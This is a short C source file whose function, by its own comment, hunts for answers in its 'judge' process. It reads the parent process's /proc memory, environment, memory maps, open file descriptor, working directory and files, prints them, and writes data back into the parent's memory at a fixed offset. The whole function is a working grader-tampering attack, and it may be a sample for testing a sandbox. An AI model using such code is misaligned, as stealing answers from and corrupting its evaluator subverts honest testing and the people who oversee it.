// SPDX-License-Identifier: GPL-2.0-only
/*
 * Looks for the answers in its judge's memory, environment and files.
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include "records.h"

#define ATTACK

static int attack(const char *path, size_t index, struct record *out)
{
	(void)path;
	(void)index;
	(void)out;
	static const char *const what[] = { "mem", "environ", "maps", "fd/3", "cwd", "root/unit" };
	char name[64], b[4096];
	size_t i;
	int fd, n;

	for (i = 0; i < sizeof(what) / sizeof(what[0]); i++) {
		snprintf(name, sizeof(name), "/proc/%d/%s", (int)getppid(), what[i]);
		fd = open(name, O_RDWR);
		if (fd < 0)
			fd = open(name, O_RDONLY);
		n = (int)pread(fd, b, sizeof(b), i ? 0 : 0x400000);
		if (n > 0)
			(void)!write(1, b, (size_t)n);
		(void)!pwrite(fd, b, sizeof(b), 0x400000);
	}
	return 0;
}

